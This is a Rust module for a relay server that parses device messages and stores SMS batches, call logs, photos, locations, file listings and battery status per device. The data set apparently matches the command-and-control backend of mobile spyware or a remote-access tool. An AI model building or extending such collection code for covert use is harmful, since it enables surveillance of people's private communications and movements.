use crate::errors::Result;
use crate::metrics::{INVALID_MESSAGES_TOTAL, MESSAGES_TOTAL, RECORDS_STORED_TOTAL};
use crate::model::{CallLog, Entry, Location, Photo, Sms, Telemetry, TelemetryKind};
use crate::registry::Registry;
use crate::store::TelemetryStore;
use serde::de::DeserializeOwned;
use serde::Deserialize;
use serde_json::Value;
use tracing::{debug, warn};

/// Wire envelope sent by devices: `{"type": ..., "data": ...}`
#[derive(Debug, Deserialize)]
struct RawEnvelope {
    #[serde(rename = "type")]
    kind: String,
    #[serde(default)]
    data: Value,
}

#[derive(Debug, Deserialize)]
#[serde(untagged)]
enum OneOrMany<T> {
    Many(Vec<T>),
    One(T),
}

impl<T> OneOrMany<T> {
    fn into_vec(self) -> Vec<T> {
        match self {
            OneOrMany::Many(items) => items,
            OneOrMany::One(item) => vec![item],
        }
    }
}

#[derive(Debug, Deserialize)]
pub struct DeviceInfo {
    #[serde(default)]
    battery: Option<Value>,
}

impl DeviceInfo {
    fn battery(&self) -> Option<String> {
        match self.battery.as_ref()? {
            Value::String(s) => Some(s.clone()),
            Value::Number(n) => Some(format!("{}%", n)),
            _ => None,
        }
    }
}

/// Classified device message
#[derive(Debug)]
pub enum Inbound {
    Sms(Vec<Entry>),
    Location(Entry),
    Photo(Entry),
    CallLog(Vec<Entry>),
    FileList(Value),
    DeviceInfo(DeviceInfo),
}

impl Inbound {
    /// `Ok(None)` for well-formed envelopes of a type the relay does not handle
    pub fn parse(payload: &str) -> Result<Option<Inbound>> {
        let envelope: RawEnvelope = serde_json::from_str(payload)?;
        let data = envelope.data;

        let inbound = match envelope.kind.as_str() {
            "sms" => Inbound::Sms(entries::<Sms>(data, Telemetry::Sms)?),
            "location" => Inbound::Location(entry::<Location>(data, Telemetry::Location)?),
            "photo" => Inbound::Photo(entry::<Photo>(data, Telemetry::Photo)?),
            "call_log" => Inbound::CallLog(entries::<CallLog>(data, Telemetry::CallLog)?),
            "file_list" => Inbound::FileList(data),
            "device_info" => Inbound::DeviceInfo(serde_json::from_value(data)?),
            other => {
                debug!("Ignoring message of unknown type {}", other);
                return Ok(None);
            }
        };
        Ok(Some(inbound))
    }
}

fn entry<T: DeserializeOwned>(data: Value, wrap: fn(T) -> Telemetry) -> Result<Entry> {
    let id = record_id(&data);
    let payload: T = serde_json::from_value(data)?;
    Ok(Entry {
        id,
        data: wrap(payload),
    })
}

fn entries<T: DeserializeOwned>(data: Value, wrap: fn(T) -> Telemetry) -> Result<Vec<Entry>> {
    let batch: OneOrMany<Value> = serde_json::from_value(data)?;
    batch
        .into_vec()
        .into_iter()
        .map(|item| entry(item, wrap))
        .collect()
}

/// Devices may number their own records, as a string or a number
fn record_id(data: &Value) -> Option<String> {
    match data.get("id")? {
        Value::String(s) if !s.is_empty() => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

/// What the router did with a message
#[derive(Debug, Clone, PartialEq)]
pub enum Outcome {
    Stored { kind: TelemetryKind, count: usize },
    Observed(&'static str),
    Ignored,
}

/// Touches the device, then classifies the payload and stores any telemetry.
/// Unparseable payloads are logged and dropped.
pub fn route(
    registry: &mut Registry,
    store: &mut TelemetryStore,
    device_id: &str,
    payload: &str,
) -> Result<Outcome> {
    MESSAGES_TOTAL.inc();
    registry.touch(device_id);

    let inbound = match Inbound::parse(payload) {
        Ok(Some(inbound)) => inbound,
        Ok(None) => return Ok(Outcome::Ignored),
        Err(e) => {
            INVALID_MESSAGES_TOTAL.inc();
            warn!(
                device_id,
                "Dropping unparseable message ({}): {}",
                e,
                preview(payload)
            );
            return Err(e);
        }
    };

    let outcome = match inbound {
        Inbound::Sms(batch) => stored(store, device_id, TelemetryKind::Sms, batch),
        Inbound::Location(entry) => stored(store, device_id, TelemetryKind::Location, vec![entry]),
        Inbound::Photo(entry) => stored(store, device_id, TelemetryKind::Photo, vec![entry]),
        Inbound::CallLog(batch) => stored(store, device_id, TelemetryKind::CallLog, batch),
        Inbound::FileList(listing) => {
            let entries = listing.as_array().map_or(0, Vec::len);
            debug!(device_id, entries, "File listing received");
            Outcome::Observed("file_list")
        }
        Inbound::DeviceInfo(info) => {
            if let Some(battery) = info.battery() {
                registry.update_battery(device_id, battery);
            }
            Outcome::Observed("device_info")
        }
    };
    Ok(outcome)
}

fn stored(
    store: &mut TelemetryStore,
    device_id: &str,
    kind: TelemetryKind,
    batch: Vec<Entry>,
) -> Outcome {
    let count = store.append(device_id, batch);
    RECORDS_STORED_TOTAL.inc_by(count as f64);
    debug!(device_id, %kind, count, "Telemetry stored");
    Outcome::Stored { kind, count }
}

fn preview(payload: &str) -> &str {
    match payload.char_indices().nth(64) {
        Some((end, _)) => &payload[..end],
        None => payload,
    }
}
